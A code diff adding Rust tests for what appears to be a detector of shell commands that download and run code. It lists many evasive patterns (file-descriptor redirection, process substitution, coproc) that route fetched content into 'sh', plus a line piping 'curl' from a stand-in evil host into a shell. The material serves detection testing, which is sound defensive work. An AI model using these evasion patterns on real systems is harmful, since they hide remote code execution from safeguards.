@@ -101,3 +101,100 @@ fn many_process_substitutions_are_followed_within_the_budget() {
         told(&text);
     }
 }
+
+#[test]
+fn what_is_written_to_a_descriptor_lies_in_the_file_that_it_leads_to() {
+    for command in [
+        "exec 3>y; { FETCH; } >&3; sh y",
+        "{ FETCH; } 3>y >&3; sh y",
+        "{ FETCH >&3; } 3>y; sh y",
+        "( ( FETCH ) >&3 ) 3>y; sh y",
+        "f() { FETCH >&3; }; f 3>y; sh y",
+        "for i in 1; do FETCH >&3; done 3>y; sh y",
+        "FETCH 3>y 4>&3 >&4; sh y",
+        "exec 3>y 4>&3; FETCH >&4; sh y",
+        "exec 3>y; exec 4>&3- ; FETCH >&4; sh y",
+        "exec 3>y; exec >&3; FETCH; sh y",
+        "exec 3>y; (exec >&3; FETCH); sh y",
+        "exec 3>y; FETCH > /dev/fd/3; sh y",
+        "exec 3>y; FETCH | tee /proc/self/fd/3; sh y",
+        "exec 3>y; FETCH -o /dev/fd/3; sh y",
+        "exec {fd}>y; FETCH >&$fd; sh y",
+        "exec {fd}>y; FETCH >&\"$fd\"; sh y",
+        "exec {a}>x {b}>y; FETCH >&$b; sh y",
+        ": {fd}>y; FETCH >&${fd}; sh y",
+        "F=y; FETCH >& $F; sh y",
+        "bash -c 'FETCH >&3' 3>y; sh y",
+        "exec 3> >(sh); FETCH >&3",
+        "exec 3> >(tee y); FETCH >&3; sh y",
+        "exec > >(tee y); FETCH; sh y",
+        "(exec > >(tee y); FETCH); sh y",
+        "coproc sh; FETCH >&${COPROC[1]}",
+        "coproc P { cat > y; }; FETCH >&\"${P[1]}\"; sh y",
+    ] {
+        assert!(fetches_code(command), "{command}: {:?}", told(command));
+    }
+    for command in [
+        "exec 3>data.json; FETCH >&3; sh y",
+        "exec 3>y; exec 3>&-; exec 3>z; FETCH >&3; sh y",
+        "exec 3>y 4>z; FETCH >&4; sh y",
+        "exec {a}>x {b}>y; FETCH >&$a; sh y",
+        "{ make; } 3>y; FETCH > z; sh y",
+        "( exec > >(tee y); make ); FETCH > z; sh y",
+        "exec 3>&1; FETCH 2>&1 >&3 | grep warn",
+    ] {
+        assert!(!fetches_code(command), "{command}: {:?}", told(command));
+    }
+}
+
+#[test]
+fn a_descriptor_that_leads_into_a_pipe_does_not_lead_into_the_file_around_it() {
+    let command = format!("{{ curl -s {EVIL} 3>&1 >&3 | sh; }} > z");
+    assert_eq!(of_kind(&command, "exec.dynamic"), ["exec.dynamic"]);
+}
+
+#[test]
+fn what_is_read_from_a_descriptor_is_what_it_was_opened_for() {
+    for command in [
+        "FETCH -o a; exec {fd}<a; sh <&$fd",
+        "FETCH -o a; exec 3<a 4<&3; sh <&4",
+        "FETCH -o a; { sh <&3; } 3<a",
+        "FETCH -o a; exec <a; sh",
+        "FETCH -o a; exec 3<a; exec <&3; sh",
+        "FETCH -o a; exec 3<a; sh /dev/fd/3",
+        "FETCH -o a; exec 3<a; . /dev/fd/3",
+        "exec {fd}< <(FETCH); { sh; } <&$fd",
+        "exec 3< <(FETCH) 4<&3; sh <&4",
+        "exec 3< <(FETCH); sh /dev/fd/3",
+        "coproc FETCH; sh <&${COPROC[0]}",
+        "coproc P { FETCH; }; sh <&\"${P[0]}\"",
+    ] {
+        assert!(fetches_code(command), "{command}: {:?}", told(command));
+    }
+    for command in [
+        "FETCH -o a; exec 3<b; sh <&3",
+        "FETCH -o a; exec 3<a; wc -l <&3; sh b",
+        "FETCH -o a; (exec <a; wc -l); sh < b",
+    ] {
+        assert!(!fetches_code(command), "{command}: {:?}", told(command));
+    }
+    for command in [
+        "exec 3<<<'GONE' 4<&3; sh <&4",
+        "exec {fd}<<<'GONE'; sh <&$fd",
+        "{ sh <&3; } 3<<<'GONE'",
+        "exec <<<'GONE'; sh",
+        "{ echo 'GONE' >&3; } 3>y; sh y",
+        "exec {fd}>y; echo 'GONE' >&$fd; sh y",
+        "coproc P { sh; }; echo 'GONE' >&\"${P[1]}\"",
+    ] {
+        assert!(finds(command), "{command}: {:?}", told(command));
+    }
+    for command in [
+        "exec 3>notes; echo 'GONE' >&3; cat notes",
+        "exec {fd}>notes; echo 'GONE' >&$fd; sh y",
+        "exec 3<<<'GONE'; cat <&3",
+        "(exec <<<'GONE'); sh",
+    ] {
+        assert!(!finds(command), "{command}: {:?}", told(command));
+    }
+}
